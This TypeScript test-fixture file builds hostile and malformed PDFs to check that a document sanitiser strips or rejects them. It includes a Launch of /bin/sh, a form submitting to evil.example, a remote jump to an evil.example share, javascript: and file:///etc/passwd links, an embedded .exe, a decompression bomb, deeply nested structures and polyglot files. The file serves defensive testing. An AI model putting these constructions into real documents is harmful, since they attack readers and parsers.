import { deflateRawSync, deflateSync } from 'node:zlib';
import { type PDFDocument, PDFName, PDFRawStream, PDFString } from '@cantoo/pdf-lib';
import { aPdf, aPhoto } from '#modules/documents/testing.ts';
import { archive, type BadFile, bytes } from './bad-file.ts';

const cleaned = (...gone: string[]): BadFile['becomes'] => ({ kind: 'pdf', gone });

/** A PDF written by hand: objects from 1 on, without an index, as broken programs leave them. */
const byHand = (...objects: string[]): Buffer =>
  bytes(
    `%PDF-1.7\n${objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF`,
  );
const catalog = (more = '') => `<</Type/Catalog/Pages 2 0 R${more}>>`;
const onePage = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const page = (more = '') => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${more}>>`;

/** A PDF that does this when it is opened, when a page is opened, when it is closed, by a field or by a link. */
const doing = (action: object) => (document: PDFDocument) =>
  document.catalog.set(PDFName.of('OpenAction'), document.context.obj(action as never));
const annotated = (annotation: object) => (document: PDFDocument) =>
  document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([annotation as never]));
const text = (value: string) => PDFString.of(value);

const acting: readonly (readonly [string, (document: PDFDocument) => void, readonly string[]])[] = [
  [
    'a script',
    (document) => document.addJavaScript('inizio', 'app.alert("ciao")'),
    ['JavaScript', 'app.alert'],
  ],
  [
    'a script when it opens',
    doing({ S: 'JavaScript', JS: text('app.alert(1)') }),
    ['JavaScript', 'app.alert'],
  ],
  ['a call of a program', doing({ S: 'Launch', F: text('/bin/sh') }), ['Launch', '/bin/sh']],
  [
    'a form that sends itself',
    doing({ S: 'SubmitForm', F: text('http://evil.example/') }),
    ['SubmitForm', 'evil.example'],
  ],
  ['data that it fetches', doing({ S: 'ImportData', F: text('x.fdf') }), ['ImportData']],
  [
    'a jump into another file',
    doing({ S: 'GoToR', F: text('\\\\evil.example\\x'), D: [0, 'Fit'] }),
    ['GoToR', 'evil.example'],
  ],
  [
    'a script when the page opens',
    (document) =>
      document
        .getPage(0)
        .node.set(
          PDFName.of('AA'),
          document.context.obj({ O: { S: 'JavaScript', JS: text('app.alert(1)') } } as never),
        ),
    ['JavaScript', 'app.alert'],
  ],
  [
    'a script when it closes',
    (document) =>
      document.catalog.set(
        PDFName.of('AA'),
        document.context.obj({ WC: { S: 'JavaScript', JS: text('app.alert(1)') } } as never),
      ),
    ['JavaScript'],
  ],
  [
    'a script under a disguised name',
    annotated({ Subtype: 'Widget', A: { S: 'Java#53cript', JS: text('app.alert(1)') } }),
    ['app.alert'],
  ],
  [
    'a link that is a script',
    annotated({ Subtype: 'Link', Rect: [0, 0, 200, 200], A: { S: 'URI', URI: text('javascript:alert(1)') } }),
    ['javascript:'],
  ],
  [
    'a link to a file of the reader',
    annotated({ Subtype: 'Link', Rect: [0, 0, 200, 200], A: { S: 'URI', URI: text('file:///etc/passwd') } }),
    ['file:///'],
  ],
  ['a film', annotated({ Subtype: 'RichMedia', Rect: [0, 0, 9, 9], RichMediaContent: {} }), ['RichMedia']],
  ['a screen', annotated({ Subtype: 'Screen', Rect: [0, 0, 9, 9] }), ['Screen']],
  ['a thing in three dimensions', annotated({ Subtype: '3D', Rect: [0, 0, 9, 9] }), ['/3D']],
  [
    'a form of XFA',
    (document) =>
      document.catalog.set(
        PDFName.of('AcroForm'),
        document.context.obj({ XFA: text('<xdp/>'), Fields: [] } as never),
      ),
    ['XFA', 'xdp'],
  ],
  [
    'a script deep inside',
    (document) => {
      let action: object = { S: 'JavaScript', JS: text('app.alert(1)') };
      for (let depth = 0; depth < 30; depth += 1) action = { S: 'GoTo', D: [0], Next: action };
      doing(action)(document);
    },
    ['JavaScript', 'app.alert'],
  ],
  [
    'a program inside',
    (document) =>
      void document.attach(new Uint8Array([77, 90, 1]), 'programma.exe', {
        mimeType: 'application/octet-stream',
      }),
    ['programma.exe', 'EmbeddedFile'],
  ],
  [
    'a file pinned to a page',
    annotated({ Subtype: 'FileAttachment', Rect: [0, 0, 9, 9], FS: { Type: 'Filespec', F: text('a.exe') } }),
    ['FileAttachment', 'a.exe'],
  ],
];

/** A PDF of a stream that unpacks twice to very much. */
const bomb = () =>
  aPdf((document) => {
    const packed = deflateSync(deflateSync(Buffer.alloc(310 * 1024 * 1024)));
    const dict = document.context.obj({ Filter: ['FlateDecode', 'FlateDecode'], Length: packed.length });
    document.context.register(PDFRawStream.of(dict, packed));
  });

const nested = (open: string, close: string, depth: number) =>
  byHand(catalog(`/X ${open.repeat(depth)}${close.repeat(depth)}`), onePage, page());

/** PDFs that act, that break, that grow, or that are something else besides. */
export const badPdfs: readonly BadFile[] = [
  ...acting.map(
    ([what, change, gone]): BadFile => ({
      what: `a PDF with ${what}`,
      name: 'atto.pdf',
      make: () => aPdf(change),
      becomes: cleaned(...gone),
    }),
  ),
  {
    what: 'only the beginning of a PDF',
    name: 'atto.pdf',
    make: async () => (await aPdf()).subarray(0, 40),
    becomes: 'unreadable_pdf',
  },
  {
    what: 'half a PDF',
    name: 'atto.pdf',
    make: async () => {
      const pdf = await aPdf(() => {}, 9);
      return pdf.subarray(0, pdf.length / 2);
    },
    becomes: 'unreadable_pdf',
  },
  {
    what: 'a PDF with a password',
    name: 'atto.pdf',
    make: () =>
      aPdf((document) => document.encrypt({ userPassword: 'segreta', ownerPassword: 'segretissima' })),
    becomes: 'encrypted_pdf',
  },
  {
    what: 'a PDF that only its owner may print',
    name: 'atto.pdf',
    make: () => aPdf((document) => document.encrypt({ ownerPassword: 'segretissima' })),
    becomes: 'encrypted_pdf',
  },
  { what: 'a PDF that unpacks to very much', name: 'atto.pdf', make: bomb, becomes: 'unreadable_pdf' },
  { what: '41 pages', name: 'atto.pdf', make: () => aPdf(() => {}, 41), becomes: 'too_many_pages' },
  {
    what: 'a tree that says it has a million pages',
    name: 'atto.pdf',
    make: () => byHand(catalog(), `<</Type/Pages/Kids[${'3 0 R '.repeat(20_000)}]/Count 1000000>>`, page()),
    becomes: 'too_many_pages',
  },
  {
    what: 'a tree of pages that leads to itself',
    name: 'atto.pdf',
    make: () => byHand(catalog(), '<</Type/Pages/Kids[2 0 R]/Count 1>>'),
    becomes: 'unreadable_pdf',
  },
  {
    what: 'a PDF without pages',
    name: 'atto.pdf',
    make: () => byHand(catalog(), '<</Type/Pages/Kids[]/Count 0>>'),
    becomes: 'unreadable_pdf',
  },
  {
    what: 'a PDF without anything',
    name: 'atto.pdf',
    make: () => bytes('%PDF-1.7\n%%EOF'),
    becomes: 'unreadable_pdf',
  },
  {
    what: 'lists in lists, a hundred thousand deep',
    name: 'atto.pdf',
    make: () => nested('[', ']', 100_000),
    becomes: 'unreadable_pdf',
  },
  {
    what: 'entries in entries, fifty thousand deep',
    name: 'atto.pdf',
    make: () => nested('<</A', '>>', 50_000),
    becomes: 'unreadable_pdf',
  },
  {
    what: 'a drawing that draws itself',
    name: 'atto.pdf',
    make: () =>
      byHand(
        catalog(),
        onePage,
        page('/Resources<</XObject<</F 5 0 R>>>>/Contents 4 0 R'),
        '<</Length 5>>stream\n/F Do\nendstream',
        '<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 5>>stream\n/F Do\nendstream',
      ),
    becomes: cleaned(),
  },
  {
    what: 'a drawing that draws itself, with a script',
    name: 'atto.pdf',
    make: () =>
      byHand(
        catalog('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
        onePage,
        page('/Resources<</XObject<</F 5 0 R>>>>/Contents 4 0 R'),
        '<</Length 5>>stream\n/F Do\nendstream',
        '<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 5>>stream\n/F Do\nendstream',
      ),
    becomes: cleaned('JavaScript', 'app.alert'),
  },
  {
    what: 'a page as large as a town, with a script',
    name: 'atto.pdf',
    make: () =>
      byHand(
        catalog('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
        onePage,
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 14400 14400]>>',
      ),
    becomes: cleaned('JavaScript'),
  },
  {
    what: 'an index that leads nowhere',
    name: 'atto.pdf',
    make: async () => Buffer.concat([await aPdf(), bytes('\nstartxref\n99999999\n%%EOF')]),
    becomes: cleaned(),
  },
  {
    what: 'a PDF with a page behind it',
    name: 'atto.pdf',
    make: async () => Buffer.concat([await aPdf(), bytes('<html><script>alert(1)</script>')]),
    becomes: cleaned('<script'),
  },
  {
    what: 'a PDF with an archive behind it',
    name: 'atto.pdf',
    make: async () =>
      Buffer.concat([await aPdf(), archive('word/document.xml', deflateRawSync(bytes('x')), 1)]),
    becomes: cleaned('word/document.xml'),
  },
  {
    what: 'a PDF with a script before it',
    name: 'atto.pdf',
    make: async () => Buffer.concat([bytes('<script>alert(1)</script>\n'), await aPdf()]),
    becomes: 'kind_not_accepted',
  },
  {
    what: 'a PDF with a photo before it',
    name: 'atto.pdf',
    make: async () => Buffer.concat([await aPhoto(), await aPdf()]),
    becomes: 'kinds_disagree',
  },
  {
    what: 'an older version with a script under a newer one',
    name: 'atto.pdf',
    make: async () =>
      Buffer.concat([
        await aPdf((document) => document.addJavaScript('a', 'app.alert(1)')),
        bytes('\n%%EOF\n'),
        (await aPdf()).subarray(9),
      ]),
    becomes: cleaned('app.alert'),
  },
];
